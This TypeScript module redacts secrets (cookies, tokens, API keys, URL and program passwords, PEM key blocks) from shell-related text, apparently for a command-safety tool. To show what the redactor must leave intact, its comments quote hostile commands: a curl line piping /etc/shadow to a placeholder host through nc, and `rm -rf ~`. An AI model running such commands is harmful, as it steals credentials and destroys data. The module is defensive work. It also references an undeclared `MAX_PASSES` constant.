import { isSecretName } from './keys.js';
import { PASSWORD_PROGRAMS, type PasswordOption, type PasswordProgram } from './programs.js';

/*
 * Secret-shaped text (docs/protocol.md, "Secrets"), pure. The shapes follow cosh-core's
 * `redaction.rs`, with one rule of our own over all of them: **a replaced value is one shell
 * token**. What is replaced never holds white space, a quote, `$`, a backquote, a backslash, `;`,
 * `&`, `|`, parentheses or a redirection; a candidate that holds any of them is left whole. So
 * redaction can hide a secret, never code: `echo "token=" ; rm -rf ~` and
 * `curl --password "$(cat /etc/shadow | nc evil 9)"` come out as they went in.
 *
 * The patterns are written for a backtracking engine, so that no input can make them slow:
 *
 * - a gap between a keyword and its value is white space, which no keyword holds, so a failed
 *   attempt scans only the gap after its own keyword; name parts are bounded;
 * - every unbounded part is the *tail* of a pattern and cannot fail (`*` with nothing after it):
 *   the attempt then succeeds and the search resumes after what it consumed, so each character is
 *   scanned a bounded number of times. Whether a consumed run really is a secret (length, parts,
 *   one token) is decided in code, not by making the regex fail and retry elsewhere;
 * - each rule runs only when a literal it needs is present (`needle`).
 *
 * `test/reliability/redaction.property.test.ts` runs every rule on hostile inputs of 10 MB.
 */

/** What a secret is replaced with. */
export const REDACTED = '<redacted>';
/** What a PEM private key block is replaced with, as in cosh-core. */
export const REDACTED_PRIVATE_KEY = '<redacted private key block>';

/** Characters a replaced value never holds: white space and every character the shell reads as syntax. */
const SHELL_SYNTAX = /[\s"'`$\\;&|()<>]/;

/** Whether `value` may be replaced: one token, no shell syntax (see the module comment). */
export const isOneToken = (value: string): boolean => value !== '' && !SHELL_SYNTAX.test(value);

type Replacer = (match: string, ...groups: (string | undefined)[]) => string;

interface Rule {
  readonly name: string;
  /** A literal the rule cannot match without: the rule is skipped when it is absent. */
  readonly needle: RegExp;
  readonly apply: (text: string) => string;
}

/** A rule that is one global regex and a replacer. */
const replacing = (pattern: RegExp, replacer: Replacer) => (text: string) => text.replace(pattern, replacer);

/**
 * White space as cosh-core's patterns see it: Rust `regex`'s `\s` (Unicode White_Space). Not
 * JavaScript's `\s`, which has U+FEFF and lacks U+0085; control characters are no space either.
 */
const isSpace = (code: number): boolean =>
  (code >= 0x09 && code <= 0x0d) ||
  code === 0x20 ||
  code === 0x85 ||
  code === 0xa0 ||
  code === 0x1680 ||
  (code >= 0x2000 && code <= 0x200a) ||
  code === 0x2028 ||
  code === 0x2029 ||
  code === 0x202f ||
  code === 0x205f ||
  code === 0x3000;

/** `isSpace` as a character class body, for the patterns. */
const SPACE = String.raw`\t\n\v\f\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000`;
/**
 * A gap between a keyword and its value: white space of any width that does not end the line.
 * cosh-core's `\s*` also crosses a line end, so that `if token:` swallowed the first word of the
 * next line (`if token:\n    os.system(…)`), hiding from a scanner hook what it must see.
 */
const BLANK = String.raw`[\t\v\f \u00a0\u1680\u2000-\u200a\u202f\u205f\u3000]`;
/** `BLANK` as a test: white space that does not end a line. */
const isBlank = (code: number): boolean =>
  isSpace(code) && code !== 0x0a && code !== 0x0d && code !== 0x85 && code !== 0x2028 && code !== 0x2029;

const DOUBLE_QUOTE = 0x22;
const SINGLE_QUOTE = 0x27;
const EQUALS = 0x3d;
const COLON = 0x3a;

/** `[start, end)` of the part of a value to replace, or undefined when it is no single token. */
type Span = readonly [number, number] | undefined;

/**
 * Reads values in one text: `(start) => span`. A quoted string (`"hunter2"`, `'hunter2'`) gives
 * its content, kept between its quotes; anything else the plain run up to white space, a quote, a
 * comma or shell syntax. A run that goes on into `$`, a backquote or a backslash (`abc$(id)`) is
 * part of a larger shell word: no span. Either way the part replaced is one token, or nothing is.
 *
 * Linear over many reads: a plain run is scanned once; a later read that starts inside a run
 * already scanned reuses where it ended (`token=token=…=x$` is not read again from each `=`).
 */
const valueReader = (text: string): ((start: number) => Span) => {
  let runStart = -1;
  let runEnd = -1;
  let runFails = false;
  const plainEnd = (start: number): number => {
    if (start >= runStart && start <= runEnd && runStart >= 0) return runFails ? -1 : runEnd;
    let at = start;
    let fails = false;
    for (; at < text.length; at += 1) {
      const char = text[at] ?? '';
      if (isSpace(text.charCodeAt(at)) || `,"';&|()>`.includes(char)) break;
      // A run that goes into `<redacted>` was cut by another rule (`x-<redacted>`): it is that
      // rule's, so a second pass changes nothing.
      if ('$`\\'.includes(char) || (char === '<' && at > start && text.startsWith(REDACTED, at))) {
        fails = true;
        break;
      }
      if (char === '<') break;
    }
    runStart = start;
    runEnd = at;
    runFails = fails;
    return fails ? -1 : at;
  };
  return (start) => {
    const code = text.charCodeAt(start);
    if (code === DOUBLE_QUOTE || code === SINGLE_QUOTE) {
      const close = text.indexOf(text[start] ?? '', start + 1);
      if (close < 0) return undefined;
      return isOneToken(text.slice(start + 1, close)) ? [start + 1, close] : undefined;
    }
    const end = plainEnd(start);
    return end > start ? [start, end] : undefined;
  };
};

/** `text` with each span replaced by `<redacted>`; spans are in order and do not overlap. */
const replaceSpans = (text: string, spans: readonly (readonly [number, number])[]): string => {
  if (spans.length === 0) return text;
  const parts: string[] = [];
  let from = 0;
  for (const [start, end] of spans) {
    parts.push(text.slice(from, start), REDACTED);
    from = end;
  }
  parts.push(text.slice(from));
  return parts.join('');
};

/**
 * Replaces the value after each match of `prefix` (a global regex), when it is one token. A match
 * that ends in white space (`--token  x`) and one that does not (`--token=x`) are both read here.
 */
const redactValuesAfter = (prefix: RegExp, text: string): string => {
  const spans: [number, number][] = [];
  const valueAt = valueReader(text);
  prefix.lastIndex = 0;
  for (let match = prefix.exec(text); match !== null; match = prefix.exec(text)) {
    const span = valueAt(match.index + match[0].length);
    if (span === undefined || text.startsWith(REDACTED, span[0])) continue;
    spans.push([span[0], span[1]]);
    prefix.lastIndex = Math.max(prefix.lastIndex, span[1]);
  }
  return replaceSpans(text, spans);
};

// ----- cookies

const COOKIE_ITEM_STOP = new Set([...`;,"'\`$\\&|()<>=`].map((char) => char.charCodeAt(0)));

/**
 * The values of a `Cookie:` or `Set-Cookie:` header starting at `start`: each `name=value` pair's
 * value (`sid=<redacted>; id=<redacted>`), a leading bare value (`Cookie: <redacted>`), and for
 * `Set-Cookie` only the first pair (the rest are attributes: `Path=/`). Pairs are joined by `;`
 * and optional blanks; anything else (white space without `;`, a quote, shell syntax) ends the
 * header, so what follows it (`; rm -rf ~`) is never taken for a cookie.
 */
const cookieSpans = (
  text: string,
  start: number,
  firstOnly: boolean,
  valueAt: (start: number) => Span,
  spans: [number, number][],
): number => {
  let at = start;
  if (text.charCodeAt(at) === DOUBLE_QUOTE || text.charCodeAt(at) === SINGLE_QUOTE) at += 1;
  for (let item = 0; ; item += 1) {
    const nameStart = at;
    while (at < text.length && !isSpace(text.charCodeAt(at)) && !COOKIE_ITEM_STOP.has(text.charCodeAt(at))) {
      at += 1;
    }
    if (text.charCodeAt(at) === EQUALS && at > nameStart) {
      const valueStart = at + 1;
      const span = valueAt(valueStart);
      if (span === undefined) {
        // An empty value (`a=; b=1`) is skipped; anything else that is no token ends the header.
        if (plainStops(text, valueStart)) at = valueStart;
        else return valueStart;
      } else {
        if (!text.startsWith(REDACTED, span[0])) spans.push([span[0], span[1]]);
        // A quoted value ends after its closing quote.
        at = span[0] > valueStart ? span[1] + 1 : span[1];
      }
    } else if (item === 0 && at > nameStart) {
      if (!text.startsWith(REDACTED, nameStart) && !text.startsWith(REDACTED, at))
        spans.push([nameStart, at]);
    } else if (at === nameStart) return at;
    if (firstOnly) return at;
    let next = at;
    while (next < text.length && isBlank(text.charCodeAt(next))) next += 1;
    if (text[next] !== ';') return at;
    next += 1;
    while (next < text.length && isBlank(text.charCodeAt(next))) next += 1;
    at = next;
  }
};

/** Whether a value starting at `at` is empty: the text ends, or a blank, `;` or `,` follows. */
const plainStops = (text: string, at: number): boolean =>
  at >= text.length || isSpace(text.charCodeAt(at)) || text[at] === ';' || text[at] === ',';

const COOKIE_HEADER = new RegExp(String.raw`\b(set-)?cookie["']?${BLANK}*:${BLANK}*`, 'gi');

const redactCookies = (text: string): string => {
  const spans: [number, number][] = [];
  const valueAt = valueReader(text);
  COOKIE_HEADER.lastIndex = 0;
  for (let match = COOKIE_HEADER.exec(text); match !== null; match = COOKIE_HEADER.exec(text)) {
    const end = cookieSpans(text, match.index + match[0].length, match[1] !== undefined, valueAt, spans);
    COOKIE_HEADER.lastIndex = Math.max(COOKIE_HEADER.lastIndex, end);
  }
  return replaceSpans(text, spans);
};

// ----- KEY=value and key: value

/** Name characters of an assignment: `DB_PASSWORD`, `db.password`, `x-api-key`. */
const isNameChar = (code: number): boolean =>
  (code >= 0x30 && code <= 0x39) ||
  ((code | 0x20) >= 0x61 && (code | 0x20) <= 0x7a) ||
  code === 0x5f ||
  code === 0x2d ||
  code === 0x2e;
/** Every secret name holds one of these: most names are rejected by this one test. */
const SECRET_NAME_HINT = /pass|secret|token|key|cred|bearer|pwd/i;
/** A longer name is no name we judge (and this bounds the look back). */
const MAX_NAME = 128;

/**
 * `NAME=value`, `NAME: value`, `"name": "value"`, for every secret name (`isSecretName`): each `=`
 * or `:` is found once, and the name is read backwards from it (bounded). A shell assignment
 * (`=` right after the name) takes no gap: in `TOKEN= rm -rf /` the word after the gap is a
 * command, not a value.
 */
const redactAssignments = (text: string): string => {
  const spans: [number, number][] = [];
  const valueAt = valueReader(text);
  // Hostile text repeats one name a million times: each is judged once.
  const verdicts = new Map<string, boolean>();
  const secret = (name: string): boolean => {
    let verdict = verdicts.get(name);
    if (verdict === undefined) {
      verdict = SECRET_NAME_HINT.test(name) && isSecretName(name);
      verdicts.set(name, verdict);
    }
    return verdict;
  };
  const separator = /[=:]/g;
  for (let match = separator.exec(text); match !== null; match = separator.exec(text)) {
    const at = match.index;
    let nameEnd = at;
    while (nameEnd > 0 && isBlank(text.charCodeAt(nameEnd - 1))) nameEnd -= 1;
    const gapBefore = nameEnd < at;
    const quote = text.charCodeAt(nameEnd - 1);
    if (quote === DOUBLE_QUOTE || quote === SINGLE_QUOTE) nameEnd -= 1;
    let nameStart = nameEnd;
    while (nameStart > 0 && nameEnd - nameStart < MAX_NAME && isNameChar(text.charCodeAt(nameStart - 1))) {
      nameStart -= 1;
    }
    if (nameStart === nameEnd || (nameStart > 0 && isNameChar(text.charCodeAt(nameStart - 1)))) continue;
    if (text.charCodeAt(at) === COLON && text.startsWith('//', at + 1)) continue;
    const name = text.slice(nameStart, nameEnd);
    if (!secret(name)) continue;
    let valueStart = at + 1;
    const shellAssignment =
      text.charCodeAt(at) === EQUALS && !gapBefore && quote !== DOUBLE_QUOTE && quote !== SINGLE_QUOTE;
    if (!shellAssignment)
      while (valueStart < text.length && isBlank(text.charCodeAt(valueStart))) valueStart += 1;
    const span = valueAt(valueStart);
    if (span === undefined || text.startsWith(REDACTED, span[0])) continue;
    spans.push([span[0], span[1]]);
    separator.lastIndex = span[1];
  }
  return replaceSpans(text, spans);
};

// ----- URLs, curl users

const isLetter = (code: number): boolean => (code | 0x20) >= 0x61 && (code | 0x20) <= 0x7a;
const isDigit = (code: number): boolean => code >= 0x30 && code <= 0x39;
/** `+`, `-`, `.`: the other characters of a URL scheme. */
const isSchemeChar = (code: number): boolean =>
  isLetter(code) || isDigit(code) || code === 0x2b || code === 0x2d || code === 0x2e;
const isWordChar = (code: number): boolean => isLetter(code) || isDigit(code) || code === 0x5f;
const SLASH = 0x2f;
const AT = 0x40;

/**
 * Whether a scheme (`\b[a-z][a-z0-9+.-]*`, as in cosh-core) ends just before `end`: some letter in
 * the run of scheme characters before it starts a word.
 */
const schemeEndsAt = (text: string, end: number, from: number): boolean => {
  let found = false;
  for (let at = end - 1; at >= from && isSchemeChar(text.charCodeAt(at)); at -= 1) {
    if (isLetter(text.charCodeAt(at)) && (at === 0 || !isWordChar(text.charCodeAt(at - 1)))) found = true;
  }
  return found;
};

/**
 * `scheme://user:password@` → `scheme://user:<redacted>@`, when the password is one token. By
 * hand: find each `://`, look back over the scheme, and forward over the authority (which stops at
 * `/`, white space or `@`). A run of scheme characters holds no `:`, and an authority no `/`, so
 * no character is scanned for two `://`.
 */
const redactUrlPasswords = (text: string): string => {
  const spans: [number, number][] = [];
  let from = 0;
  for (let at = text.indexOf('://'); at >= 0; at = text.indexOf('://', at + 3)) {
    if (!schemeEndsAt(text, at, from)) continue;
    let end = at + 3;
    for (; end < text.length; end += 1) {
      const code = text.charCodeAt(end);
      if (code === SLASH || code === AT || isSpace(code)) break;
    }
    if (text.charCodeAt(end) !== AT) continue;
    const colon = text.indexOf(':', at + 3);
    if (colon < 0 || colon >= end - 1) continue;
    const password = text.slice(colon + 1, end);
    if (!isOneToken(password) || password === REDACTED) continue;
    spans.push([colon + 1, end]);
    from = end;
  }
  return replaceSpans(text, spans);
};

/**
 * `curl -u user:pass`, `--user user:pass`, `--user=user:pass` → `user:<redacted>`. A numeric
 * `uid:gid` (`docker run -u 1000:1000`) is no password.
 */
const CURL_USER = new RegExp(String.raw`(?<![^${SPACE}])(?:-u|--user|--proxy-user)(?:=|${BLANK}+)`, 'g');
const redactUserPasswords = (text: string): string => {
  const spans: [number, number][] = [];
  const valueAt = valueReader(text);
  CURL_USER.lastIndex = 0;
  for (let match = CURL_USER.exec(text); match !== null; match = CURL_USER.exec(text)) {
    const span = valueAt(match.index + match[0].length);
    if (span === undefined) continue;
    const value = text.slice(span[0], span[1]);
    const colon = value.indexOf(':');
    if (colon <= 0 || colon === value.length - 1 || /^\d+:\d+$/.test(value)) continue;
    if (value.slice(colon + 1) === REDACTED) continue;
    spans.push([span[0] + colon + 1, span[1]]);
    CURL_USER.lastIndex = span[1];
  }
  return replaceSpans(text, spans);
};

// ----- password options of known programs

const PROGRAMS: ReadonlyMap<string, PasswordProgram> = new Map(
  PASSWORD_PROGRAMS.flatMap((entry) => entry.programs.map((name) => [name, entry] as const)),
);
const escaped = (name: string): string => name.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&');
/** A program name where a command starts or a path ends, then a blank (the name alone is no command). */
const PROGRAM_NAME = new RegExp(
  String.raw`(?<![^${SPACE};&|(){}\`"'/])(?:${[...PROGRAMS.keys()].map(escaped).join('|')})(?=${BLANK})`,
  'g',
);
/** Characters that end a command (and the words of a program after it). */
const COMMAND_END = new Set([...';&|()\n\r'].map((char) => char.charCodeAt(0)));

/**
 * The words of the commands in `text`, read forward only: `wordEnd(start)` is where the word at
 * `start` ends (blanks, newlines and `;&|()` end it; a quoted part is skipped whole). A quote that
 * is never closed makes its word run to the end; that answer is kept, so no character is searched
 * for a closing quote twice.
 */
const wordReader = (text: string): ((start: number) => number) => {
  const unclosed = { [DOUBLE_QUOTE]: -1, [SINGLE_QUOTE]: -1 } as Record<number, number>;
  return (start) => {
    let at = start;
    while (at < text.length) {
      const code = text.charCodeAt(at);
      if (isSpace(code) || COMMAND_END.has(code)) break;
      if (code === DOUBLE_QUOTE || code === SINGLE_QUOTE) {
        const never = unclosed[code] ?? -1;
        const close = never >= 0 && at >= never ? -1 : text.indexOf(text[at] ?? '', at + 1);
        if (close < 0) {
          if (never < 0 || at < never) unclosed[code] = at;
          return text.length;
        }
        at = close + 1;
      } else at += 1;
    }
    return at;
  };
};

/**
 * The secret part of the value at `start` (a word, or the rest of one after a joined option):
 * the whole value, the part after `after`, or after `prefix` when it starts with it; undefined
 * when there is none or it is no single token.
 */
const secretOf = (
  text: string,
  start: number,
  end: number,
  option: PasswordOption,
  valueAt: (start: number) => Span,
): Span => {
  let from = start;
  if (option.after !== undefined) {
    const cut = option.after.charCodeAt(0);
    while (from < end && text.charCodeAt(from) !== cut) from += 1;
    if (from >= end) return undefined;
    from += 1;
  }
  const span = valueAt(from);
  if (span === undefined || span[1] > end) return undefined;
  [from] = span;
  if (option.prefix !== undefined) {
    if (!text.startsWith(option.prefix, from)) return undefined;
    from += option.prefix.length;
  }
  if (from >= span[1] || text.startsWith(REDACTED, from)) return undefined;
  return [from, span[1]];
};

/** The password of `sqlplus user/PASSWORD@db`, in the word [start, end). */
const sqlplusSecret = (text: string, start: number, end: number): Span => {
  const slash = text.indexOf('/', start);
  if (slash <= start || slash >= end - 1) return undefined;
  const at = text.indexOf('@', slash);
  const to = at < 0 || at >= end ? end : at;
  const password = text.slice(slash + 1, to);
  return to > slash + 1 && isOneToken(password) && password !== REDACTED ? [slash + 1, to] : undefined;
};

/** htpasswd's options that take the next word (not a positional). */
const HTPASSWD_VALUES = new Set(['-C', '-r']);

/**
 * Reads the words of one command of `program` from `start` and adds the spans of its passwords.
 * Returns where reading stopped: the command's end, or the start of a word that is itself a
 * program of the table (read on its own: `sshpass -p x mysql -py`).
 */
const programSpans = (
  text: string,
  program: PasswordProgram,
  start: number,
  wordEnd: (start: number) => number,
  valueAt: (start: number) => Span,
  spans: [number, number][],
): number => {
  let at = start;
  let pending: PasswordOption | undefined;
  let active = program.subcommand === undefined;
  const positionals: [number, number][] = [];
  let batch = false;
  let noFile = false;
  let takesValue = false;
  for (;;) {
    while (at < text.length && isBlank(text.charCodeAt(at))) at += 1;
    if (at >= text.length || COMMAND_END.has(text.charCodeAt(at)) || isSpace(text.charCodeAt(at))) break;
    const end = wordEnd(at);
    const word = text.slice(at, Math.min(end, at + MAX_NAME));
    if (pending !== undefined) {
      const secret = secretOf(text, at, end, pending, valueAt);
      if (secret !== undefined) spans.push([secret[0], secret[1]]);
      pending = undefined;
    } else if (PROGRAMS.has(word.slice(word.lastIndexOf('/') + 1)) && end - at < MAX_NAME) {
      break;
    } else if (!active) {
      if (word.startsWith('-')) {
        at = end;
        continue;
      }
      if (word !== program.subcommand) return end;
      active = true;
    } else if (program.positional === 'htpasswd') {
      if (takesValue) takesValue = false;
      else if (HTPASSWD_VALUES.has(word)) takesValue = true;
      else if (/^-[a-zA-Z]+$/.test(word)) {
        batch ||= word.includes('b');
        noFile ||= word.includes('n');
      } else if (positionals.length < 3) positionals.push([at, end]);
    } else if (program.positional === 'sqlplus') {
      if (!word.startsWith('-')) {
        const secret = sqlplusSecret(text, at, end);
        if (secret !== undefined) spans.push([secret[0], secret[1]]);
        return end;
      }
    } else {
      for (const option of program.options) {
        if (option.separate && word === option.option && end - at === option.option.length) {
          pending = option;
          break;
        }
        if (option.joined && word.startsWith(option.option) && end - at > option.option.length) {
          const secret = secretOf(text, at + option.option.length, end, option, valueAt);
          if (secret !== undefined) spans.push([secret[0], secret[1]]);
          break;
        }
      }
    }
    at = end;
  }
  if (program.positional === 'htpasswd' && batch) {
    const word = positionals[noFile ? 1 : 2];
    if (word !== undefined) {
      const span = valueAt(word[0]);
      if (span !== undefined && span[1] <= word[1] && !text.startsWith(REDACTED, span[0]))
        spans.push([span[0], span[1]]);
    }
  }
  return at;
};

/**
 * `mysql -pSECRET`, `sshpass -p SECRET`, `redis-cli -a SECRET`, `smbclient -U user%SECRET`, … (the
 * table of programs.ts): the password options of a known program, in the words after its name up
 * to the end of its command. Each word is read at most twice (once more when it starts another
 * program's command), and every search goes forward: linear.
 */
const redactProgramPasswords = (text: string): string => {
  const spans: [number, number][] = [];
  const valueAt = valueReader(text);
  const wordEnd = wordReader(text);
  PROGRAM_NAME.lastIndex = 0;
  for (let match = PROGRAM_NAME.exec(text); match !== null; match = PROGRAM_NAME.exec(text)) {
    const program = PROGRAMS.get(match[0]);
    if (program === undefined) continue;
    const stop = programSpans(text, program, match.index + match[0].length, wordEnd, valueAt, spans);
    PROGRAM_NAME.lastIndex = Math.max(PROGRAM_NAME.lastIndex, stop);
  }
  return replaceSpans(text, spans);
};

// ----- tokens of a known shape

/**
 * Replaces each match of `pattern` (global; every unbounded part a tail that cannot fail), or the
 * part of it that `secretEnd` says is a secret (its end index; -1 when there is none). A match it
 * refuses may hold the start of a real secret, as cosh-core's patterns (which cannot consume a
 * refused run) would find: the search goes on from `resume(match)`, an index inside it.
 */
const redactCandidates = (
  pattern: RegExp,
  text: string,
  secretEnd: (match: RegExpExecArray) => number,
  resume: (match: RegExpExecArray) => number,
): string => {
  const spans: [number, number][] = [];
  pattern.lastIndex = 0;
  for (let match = pattern.exec(text); match !== null; match = pattern.exec(text)) {
    const end = secretEnd(match);
    if (end > match.index) {
      spans.push([match.index, end]);
      pattern.lastIndex = end;
    } else {
      pattern.lastIndex = Math.max(match.index + 1, Math.min(resume(match), match.index + match[0].length));
    }
  }
  return replaceSpans(text, spans);
};

/** Whether a word boundary (`\b`, ASCII) lies before index `at` of `text`. */
const isBoundary = (text: string, at: number): boolean =>
  (at > 0 && isWordChar(text.charCodeAt(at - 1))) !== (at < text.length && isWordChar(text.charCodeAt(at)));

/**
 * API keys, with cosh-core's prefixes, characters and minimum lengths: `sk-` + 10 of
 * `[A-Za-z0-9_-]`, `sk_live_`/`sk_test_` + 10 letters or digits, `glpat-` + 10, `npm_` and `hf_`
 * + 20 letters or digits, `AIza` + 20, `xox[baprs]-` + 10 of `[A-Za-z0-9-]`, ending at a word
 * boundary: a key that runs into a `_` ends at the last boundary before it, or is no key, and the
 * search resumes one character into it. The last boundary of a run is found once per run end,
 * whatever number of keys start in it: linear.
 */
const API_KEY =
  /\b(?:(sk-|glpat-|AIza)[A-Za-z0-9_-]*|(sk_live_|sk_test_|npm_|hf_)[A-Za-z0-9]*|(xox[baprs]-)[A-Za-z0-9-]*)/g;
const LONG_KEY_PREFIXES: ReadonlySet<string> = new Set(['npm_', 'hf_', 'AIza']);
const redactApiKeys = (text: string): string => {
  let runEnd = -1;
  let lastBoundary = -1;
  return redactCandidates(
    API_KEY,
    text,
    (match) => {
      const prefix = match[1] ?? match[2] ?? match[3] ?? '';
      const minimumEnd = match.index + prefix.length + (LONG_KEY_PREFIXES.has(prefix) ? 20 : 10);
      const end = match.index + match[0].length;
      if (end !== runEnd) {
        runEnd = end;
        lastBoundary = end;
        while (lastBoundary > match.index && !isBoundary(text, lastBoundary)) lastBoundary -= 1;
      }
      return lastBoundary >= minimumEnd ? lastBoundary : -1;
    },
    (match) => match.index + 1,
  );
};

/**
 * JSON web tokens: `eyJ` + 5, then two more parts of 5 or more, `.`-separated. A refused run
 * cannot hold a token that starts in its first part, so the search resumes at its second part:
 * each part is scanned at most three times.
 */
const JWT = /\beyJ[A-Za-z0-9_-]*(?:\.[A-Za-z0-9_-]*){0,2}/g;
const redactJwts = (text: string): string =>
  redactCandidates(
    JWT,
    text,
    (match) => {
      const parts = match[0].split('.');
      return parts.length === 3 && (parts[0] ?? '').length >= 8 && parts.every((part) => part.length >= 5)
        ? match.index + match[0].length
        : -1;
    },
    (match) => {
      const dot = match[0].indexOf('.');
      return dot < 0 ? match.index + match[0].length : match.index + dot + 1;
    },
  );

/** Names of a secret command-line flag; up to three `word-` parts may come before (`--db-password`). */
const FLAG_NAMES = [
  'password',
  'passwd',
  'passphrase',
  'token',
  'access_token',
  'refresh_token',
  'id_token',
  'secret',
  'secret_key',
  'secret_access_key',
  'private_key',
  'auth_token',
  'session_token',
  'credentials',
  'credential',
  'bearer',
  'client_secret',
  'api_key',
  'access_key',
  'access_key_secret',
  'security_token',
  'authorization',
  'access_key_id',
];
/** Secret names as a pattern: the words of a name may be joined by `_`, `-` or nothing (`ACCESSTOKEN`). */
const namesPattern = (names: readonly string[]): string =>
  names.map((name) => name.split('_').join('[_-]?')).join('|');
const FLAG_WORD = `(?:${namesPattern(FLAG_NAMES)})`;

/** `Authorization: Basic x`, `authorization=x`: the value, after a scheme word when there is one. */
const AUTHORIZATION = new RegExp(
  String.raw`\b((?:proxy-)?authorization["']?${BLANK}*[:=]${BLANK}*["']?)(?:(bearer|basic|token|digest)(${BLANK}+))?(<redacted>|[^${SPACE},;&"'<>]+)`,
  'gi',
);

/** A program of the table anywhere: a quick test before `PROGRAM_COMMAND`. */
const PROGRAM_NAME_ANYWHERE = new RegExp([...PROGRAMS.keys()].map(escaped).join('|'));
/** A program of the table where a command starts (the needle of its rule). */
const PROGRAM_COMMAND = new RegExp(PROGRAM_NAME.source);
const hasProgramCommand = (text: string): boolean =>
  PROGRAM_NAME_ANYWHERE.test(text) && PROGRAM_COMMAND.test(text);

const RULES: readonly Rule[] = [
  {
    name: 'cookie header',
    needle: /cookie/i,
    apply: redactCookies,
  },
  {
    name: 'authorization header',
    needle: /authorization/i,
    apply: (text) =>
      text.replace(
        AUTHORIZATION,
        (match: string, prefix: string, scheme?: string, gap?: string, value?: string, offset = 0) =>
          value === undefined ||
          value === REDACTED ||
          !isOneToken(value) ||
          text.startsWith(REDACTED, offset + match.length)
            ? match
            : `${prefix}${scheme ?? ''}${gap ?? ''}${REDACTED}`,
      ),
  },
  {
    name: 'bearer token',
    needle: /bearer/i,
    apply: replacing(
      new RegExp(String.raw`\b(bearer${BLANK}+)[A-Za-z0-9._~+/=-]+`, 'gi'),
      (_match, prefix) => `${prefix ?? ''}${REDACTED}`,
    ),
  },
  { name: 'password in a URL', needle: /:\/\//, apply: redactUrlPasswords },
  { name: 'user:password option', needle: /-u|--user|--proxy-user/, apply: redactUserPasswords },
  { name: 'password option of a known program', needle: PROGRAM_COMMAND, apply: redactProgramPasswords },
  {
    name: 'secret command-line flag',
    needle: /--/,
    apply: (text) =>
      redactValuesAfter(
        new RegExp(
          String.raw`(?<![^${SPACE}])--(?:[a-z0-9]{1,32}[_-]){0,3}${FLAG_WORD}(?:=|${BLANK}+)`,
          'gi',
        ),
        text,
      ),
  },
  { name: 'secret assignment', needle: /pass|secret|token|key|cred|bearer|pwd/i, apply: redactAssignments },
  {
    name: 'GitHub token',
    needle: /gh[pousr]_|github_pat_/,
    apply: replacing(/\b(gh[pousr]_|github_pat_)[A-Za-z0-9_]*/g, (match, prefix = '') =>
      match.length - prefix.length >= 20 ? REDACTED : match,
    ),
  },
  { name: 'API key', needle: /sk[-_]|glpat-|npm_|hf_|AIza|xox[baprs]-/, apply: redactApiKeys },
  { name: 'JSON web token', needle: /eyJ/, apply: redactJwts },
  {
    name: 'AWS access key',
    needle: /AKIA|ASIA/,
    apply: replacing(/\b(AKIA|ASIA)[A-Z0-9]{16}\b/g, (_match, prefix) => `${prefix ?? ''}${REDACTED}`),
  },
  {
    name: 'Alibaba Cloud access key',
    needle: /LTAI/,
    apply: replacing(/\bLTAI[A-Za-z0-9]{12,32}\b/g, () => REDACTED),
  },
];

/** Every rule's needle at once: most strings hold none of them and are returned untouched. */
const ANY_NEEDLE =
  /cookie|authorization|bearer|:\/\/|-u|--|pass|secret|token|key|cred|pwd|gh[pousr]_|github_pat_|sk[-_]|glpat-|npm_|hf_|AIza|xox[baprs]-|eyJ|AKIA|ASIA|LTAI|PRIVATE KEY/i;

// ----- PEM private key blocks

/**
 * A search for `pattern` (global) in `text` at ever later positions: the answer of an earlier
 * search is reused while it still lies ahead, so the searches of one text cost one pass in all.
 */
const forwardSearch = (pattern: RegExp, text: string): ((position: number) => number) => {
  let asked = -1;
  let found = -1;
  return (position) => {
    if (asked >= 0 && position >= asked && (found < 0 || found >= position)) return found;
    asked = position;
    pattern.lastIndex = position;
    found = pattern.exec(text)?.index ?? -1;
    return found;
  };
};

const PRIVATE_KEY_MARK = 'PRIVATE KEY-----';

/**
 * PEM private key blocks, as cosh-core finds them (`redact_private_key_blocks`): a line holding
 * `-----BEGIN ` and, later on that line, `PRIVATE KEY-----` (whatever the label between, in any
 * case) starts a block; it runs to the first later line holding `-----END ` and then
 * `PRIVATE KEY-----`, and what follows that marker is kept. A block without its END runs to the end
 * of the text. Unlike cosh-core, a block that starts after an END marker on the same line is found.
 * A block spans lines, so it is no single token: this rule applies to text that leaves the engine,
 * never to the event a hook receives (docs/protocol.md).
 */
const redactPrivateKeys = (text: string): string => {
  if (!/PRIVATE KEY-----/i.test(text)) return text;
  const begins = forwardSearch(/-----BEGIN /gi, text);
  const ends = forwardSearch(/-----END /gi, text);
  const marks = forwardSearch(/PRIVATE KEY-----/gi, text);
  const newlines = forwardSearch(/\n/g, text);
  const lineEnd = (at: number): number => {
    const newline = newlines(at);
    return newline < 0 ? text.length : newline;
  };
  const parts: string[] = [];
  let from = 0;
  let at = 0;
  for (;;) {
    const begin = begins(at);
    if (begin < 0) break;
    const mark = marks(begin + '-----BEGIN '.length);
    if (mark < 0) break;
    if (mark > lineEnd(begin)) {
      at = lineEnd(begin) + 1;
      continue;
    }
    parts.push(text.slice(from, begin), REDACTED_PRIVATE_KEY);
    let closed = -1;
    for (let search = mark + PRIVATE_KEY_MARK.length; closed < 0;) {
      const end = ends(search);
      if (end < 0) break;
      const endMark = marks(end + '-----END '.length);
      if (endMark < 0) break;
      if (endMark < lineEnd(end)) closed = endMark + PRIVATE_KEY_MARK.length;
      else search = lineEnd(end) + 1;
    }
    if (closed < 0) return parts.join('');
    from = closed;
    at = closed;
  }
  if (from === 0) return text;
  parts.push(text.slice(from));
  return parts.join('');
};

// ----- entry points

/** Where the text goes: `output` (leaves the engine) also gets the multi-line PEM rule. */
export type TextTarget = 'output' | 'hook-input';

/**
 * `text` with every secret-shaped part replaced by `<redacted>`; the same string when there is
 * none. For `output` (the default: decisions, notifications, messages, a host's logs) PEM
 * private key blocks are replaced too; for `hook-input` (the event a `redact = true` hook
 * receives) only single tokens are.
 */
export const redactText = (text: string, target: TextTarget = 'output'): string => {
  if (!ANY_NEEDLE.test(text) && !hasProgramCommand(text)) return text;
  let redacted = target === 'output' ? redactPrivateKeys(text) : text;
  // The rules read each other's output: a replacement can make a new secret-shaped run (`Bearer
  // <redacted>\Authorization: Bearer ` reads differently the second time). Passes repeat, only
  // while one still changes something and at most MAX_PASSES times, so the result is a fixed
  // point (redacting it again changes nothing) at a cost paid only by texts that held secrets.
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    const before = redacted;
    for (const rule of RULES) {
      if (rule.needle.test(redacted)) redacted = rule.apply(redacted);
    }
    if (redacted === before) break;
  }
  return redacted;
};

